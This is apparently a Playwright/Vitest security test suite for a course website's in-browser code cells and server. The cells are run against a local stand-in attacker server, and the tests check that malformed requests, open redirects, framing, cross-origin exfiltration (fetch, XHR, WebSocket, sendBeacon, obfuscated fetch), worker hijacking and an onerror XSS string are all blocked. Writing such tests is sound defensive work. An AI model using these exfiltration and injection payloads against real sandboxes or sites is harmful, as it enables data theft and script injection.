// Trust nothing: the course site attacked the way a hostile web page or a mischievous cell would attack
// it, in Chromium against the real server (site/serve.mjs) and the real build. A second server on another
// loopback port plays the attacker's site: it counts every request it receives, so "nothing leaked" is
// measured where the attacker would see it.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import net from 'node:net';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { BASIC_TRACE_TYPES } from '../../site/builder/clientAssets';
import { ROOT, type ServedSite, loadLabForNode, requireChromium, serveGuideSite, stopServedSite } from './support';

const PAGE = 'zz-attacks';
let site: ServedSite | undefined;
let origin = '';
let browser: Browser;
let evil: http.Server;
let evilOrigin = '';
/** Every request the attacker's server received: "METHOD path". */
let evilHits: string[] = [];

beforeAll(async () => {
  requireChromium();
  evil = http.createServer((req, res) => {
    evilHits.push(`${req.method} ${req.url}`);
    if (req.url === '/hostile.html') {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      // A page the learner happens to visit: it tries to kill the course server and to frame it.
      res.end(`<!doctype html><title>hostile</title>
<img src="${origin}//"><img src="${origin}//?x"><img src="${origin}/.//evil.example/..%2Fassets"><img src="${origin}/%"><img src="${origin}/%00">
<iframe id="frame" src="${origin}/${PAGE}/"></iframe>`);
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
    res.end('leaked');
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

  site = await serveGuideSite('teaming-lab-attacks-', PAGE, { title: 'Attack self-test', summary: 'A cell for the attack tests.', body: `## A cell

\`\`\`ts cell
console.log('ready');
\`\`\`
` });
  ({ origin, browser } = site);
});

afterAll(async () => {
  await stopServedSite(site);
  await new Promise((r) => (evil ? evil.close(r) : r(undefined)));
});

beforeEach(() => { evilHits = []; });

/** The output of the reader's run (the build-time output is a second, hidden `.tl-cell-output[data-prerendered]`). */
const LIVE_OUTPUT = '.tl-cell .tl-cell-output:not([data-prerendered])';

async function cellPage(): Promise<{ page: Page; errors: string[] }> {
  const page = await browser.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(`${origin}/${PAGE}/`);
  await page.waitForSelector('.tl-cell[data-editor="codemirror"]');
  return { page, errors };
}

/** Types `code` into the cell as a reader would and runs it with Shift+Enter. */
async function runCode(page: Page, code: string): Promise<void> {
  const editor = page.locator('.tl-cell .cm-content').first();
  await editor.fill(code);
  await editor.press('Shift+Enter');
  // 'running', or already ended: under load a short run can start and end between two polls. 60 s: a loaded
  // CI machine (2 cores) needed more than the default 30 s to start a cell's worker once.
  await page.waitForFunction(() => ['running', 'done', 'error', 'stopped'].includes(document.querySelector<HTMLElement>('.tl-cell')!.dataset.state ?? ''), null, { timeout: 60_000 });
}

async function waitEnd(page: Page, timeout = 30_000): Promise<{ state: string; output: string }> {
  await page.waitForFunction(() => ['done', 'error', 'stopped'].includes(document.querySelector<HTMLElement>('.tl-cell')!.dataset.state ?? ''), null, { timeout });
  return page.evaluate(() => ({ state: document.querySelector<HTMLElement>('.tl-cell')!.dataset.state!, output: document.querySelector<HTMLElement>('.tl-cell .tl-cell-output:not([data-prerendered])')!.innerText }));
}

/** The longest gap between animation frames over `ms` (a frozen tab has a gap as long as the freeze). */
const longestFrameGap = (page: Page, ms: number) => page.evaluate((span) => new Promise<number>((resolve) => {
  let last = performance.now(), worst = 0;
  const end = last + span;
  const tick = (t: number) => {
    worst = Math.max(worst, t - last);
    last = t;
    if (t < end) requestAnimationFrame(tick); else resolve(worst);
  };
  requestAnimationFrame(tick);
}), ms);

describe('a hostile web page against the course server', () => {
  it('cannot kill the server with <img src="http://localhost:PORT//"> and friends, nor frame the site', async () => {
    const page = await browser.newPage();
    await page.goto(`${evilOrigin}/hostile.html`);
    await page.waitForLoadState('load');
    await page.waitForTimeout(500);
    // The server still answers, and the framed page did not render (frame-ancestors 'none').
    expect((await fetch(`${origin}/`)).status).toBe(200);
    const framed = page.frames().find((f) => f !== page.mainFrame());
    const framedArticles = framed ? await framed.locator('.tl-article').count().catch(() => 0) : 0;
    expect(framedArticles).toBe(0);
    await page.close();
  });

  it('gets a 400 (not a crash) for the raw `//` request, and the server keeps serving', async () => {
    const port = Number(new URL(origin).port);
    const reply = await new Promise<string>((resolve, reject) => {
      const s = net.connect(port, '127.0.0.1');
      let text = '';
      s.on('data', (c) => { text += c; });
      s.on('end', () => resolve(text));
      s.on('error', reject);
      s.write('GET // HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n'); // no half-close: curl does not
    });
    expect(reply).toMatch(/^HTTP\/1\.1 [2-4]\d\d/);
    expect(reply).toMatch(/content-security-policy: .*frame-ancestors 'none'/i);
    expect((await fetch(`${origin}/${PAGE}/`)).status).toBe(200);
  });

  it('cannot use the server as an open redirect to its own site', async () => {
    for (const p of ['/.//evil.example/..%2Fassets', '//evil.example/..%2Fassets', '/.//evil.example/..%2F' + PAGE]) {
      const res = await fetch(`${origin}${p}`, { redirect: 'manual' });
      const location = res.headers.get('location');
      if (location) expect(new URL(location, `${origin}${p}`).origin, p).toBe(origin);
    }
  });

  it('gets plotly.js compressed', async () => {
    const res = await fetch(`${origin}/assets/plotly.min.js`, { headers: { 'Accept-Encoding': 'br, gzip' } });
    expect(['br', 'gzip']).toContain(res.headers.get('content-encoding'));
  });
});

describe('a cell against the page', () => {
  it('`while (true) console.log("spam")` leaves the tab responsive, memory and DOM bounded, and says the output was truncated', async () => {
    const { page, errors } = await cellPage();
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Performance.enable');
    await runCode(page, "while (true) console.log('spam')");
    const gap = await longestFrameGap(page, 2000);
    expect(gap, 'longest frame gap while the cell spams (ms)').toBeLessThan(2500); // before: frozen ~30 s (100,000 lines) or for good (spam); a 2-core machine under load shows up to ~1.5 s
    const metrics = Object.fromEntries(((await cdp.send('Performance.getMetrics')).metrics).map((m) => [m.name, m.value]));
    expect(metrics.JSHeapUsedSize, 'page heap while spamming').toBeLessThan(150 * 2 ** 20);
    expect(metrics.Nodes, 'DOM nodes while spamming').toBeLessThan(20_000);
    const { state, output } = await waitEnd(page);
    expect(state).toBe('stopped');
    expect(output).toMatch(/Output truncated/);
    expect(output.split('\n').filter((l) => l === 'spam').length).toBeLessThanOrEqual(2000);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('prints 100,000 lines without freezing the page: it finishes, shows the first 2,000 and a truncation note', async () => {
    const { page } = await cellPage();
    await runCode(page, "for (let i = 0; i < 100000; i++) console.log('line', i);");
    const gap = await longestFrameGap(page, 1500);
    expect(gap).toBeLessThan(2500); // before: frozen ~30 s (100,000 lines) or for good (spam); a 2-core machine under load shows up to ~1.5 s
    const { state, output } = await waitEnd(page);
    expect(state).toBe('done');
    expect(output).toContain('line 1999');
    expect(output).not.toContain('line 2000\n');
    expect(output).toMatch(/Output truncated: 98,000 more line/);
    await page.close();
  });

  it('Stop ends the run at once and discards the output still queued', async () => {
    const { page } = await cellPage();
    await runCode(page, "for (let i = 0; i < 1500; i++) console.log('early', i);\nwhile (true) {}");
    await page.waitForFunction(() => document.querySelector('.tl-cell .tl-cell-output:not([data-prerendered])')!.textContent!.includes('early'));
    await page.locator('.tl-cell .tl-stop').click();
    const { state, output } = await waitEnd(page, 2000);
    expect(state).toBe('stopped');
    expect(output).toContain('Stopped by you.');
    const after = await page.locator(LIVE_OUTPUT).innerText();
    await page.waitForTimeout(500);
    expect(await page.locator(LIVE_OUTPUT).innerText()).toBe(after);
    await page.close();
  });

  it('cannot reach another origin: fetch, XHR, WebSocket, EventSource, importScripts, nested workers, Plotly layout images', async () => {
    const { page } = await cellPage();
    const tries = [
      `await fetch('${evilOrigin}/fetch')`,
      `const x = new XMLHttpRequest(); x.open('GET', '${evilOrigin}/xhr'); x.send()`,
      `new WebSocket('${evilOrigin.replace('http', 'ws')}/ws')`,
      `new EventSource('${evilOrigin}/sse')`,
      `importScripts('${evilOrigin}/import.js')`,
      `new Worker('${evilOrigin}/worker.js')`,
      `(globalThis as any)['fet' + 'ch']('${evilOrigin}/fetch2')`,
      `Object.getPrototypeOf(globalThis).fetch.call(globalThis, '${evilOrigin}/proto')`,
      `(self as any).navigator.sendBeacon?.('${evilOrigin}/beacon', 'x')`,
      `new FontFace('x', 'url(${evilOrigin}/font.woff2)').load()`,
    ];
    const code = [
      "import { show } from 'teaming-lab';",
      ...tries.map((t, i) => `try { ${t}; console.log('try ${i}: no error'); } catch (e) { console.log('try ${i}: refused:', String(e)); }`),
      `show({ data: [{ type: 'scatter', x: [1], y: [1] }], layout: { images: [{ source: '${evilOrigin}/beacon.png', x: 0, y: 0, sizex: 1, sizey: 1 }] } });`,
      "console.log('end');",
    ].join('\n');
    await runCode(page, code);
    const { state, output } = await waitEnd(page);
    expect(state, output).toBe('done');
    await page.locator('.tl-cell-plot[data-state="drawn"]').waitFor({ timeout: 60_000 });
    await page.waitForTimeout(500);
    expect(evilHits, output).toEqual([]);
    expect(output).toContain('try 0: refused: Error: A cell cannot use fetch');
    expect(output).toContain('try 4: refused: Error: A cell cannot use importScripts');
    await page.close();
  });

  it('replacing self.onmessage or adding a message listener cannot touch a later run (each run gets a fresh worker)', async () => {
    const { page } = await cellPage();
    await runCode(page, [
      "try { (self as any).onmessage = () => console.log('HIJACKED onmessage'); } catch (e) { console.log('onmessage refused'); }",
      "self.addEventListener('message', () => console.log('HIJACKED listener'));",
      "(globalThis as any).secret = 'left behind';",
      "setTimeout(() => console.log('HIJACKED timer'), 300);",
    ].join('\n'));
    await waitEnd(page);
    await runCode(page, "console.log('second run sees', typeof (globalThis as any).secret);");
    const { state, output } = await waitEnd(page);
    await page.waitForTimeout(600);
    const finalOutput = await page.locator(LIVE_OUTPUT).innerText();
    expect(state).toBe('done');
    expect(output).toContain('second run sees undefined');
    expect(finalOutput).not.toContain('HIJACKED');
    await page.close();
  });

  it('reaches neither the DOM nor storage, and what it prints stays text', async () => {
    const { page } = await cellPage();
    await runCode(page, [
      "for (const name of ['document', 'window', 'localStorage', 'sessionStorage', 'indexedDB', 'caches', 'parent', 'opener']) {",
      "  try { const v = (globalThis as any)[name]; console.log(name, v === undefined ? 'absent' : 'PRESENT'); } catch (e) { console.log(name, 'refused'); }",
      "}",
      "console.log('<img src=x onerror=\"window.pwned=1\">');",
      "console.table([{ html: '<img src=x onerror=\"window.pwned=2\">' }]);",
    ].join('\n'));
    const { output } = await waitEnd(page);
    expect(output).not.toContain('PRESENT');
    expect(output).toContain('<img src=x onerror="window.pwned=1">');
    expect(await page.locator('.tl-cell-output img').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    await page.close();
  });
});

describe('what the site loads', () => {
  it('plotly.js basic bundle draws every trace type the library figures use', async () => {
    // The site ships plotly.js's basic bundle (scatter, bar, pie); a figure with another trace type would
    // draw nothing. Every experiment's figure with its default options is checked.
    const lab = (await loadLabForNode(path.join(ROOT, 'lib', 'index.ts'))) as { experiments: Record<string, { run(o?: object): { figure: { data: Array<{ type?: string }> } } }> };
    const used = new Set<string>();
    for (const exp of Object.values(lab.experiments)) for (const t of exp.run({}).figure.data) used.add(t.type ?? 'scatter');
    expect([...used].filter((t) => !BASIC_TRACE_TYPES.includes(t))).toEqual([]);
  });
});
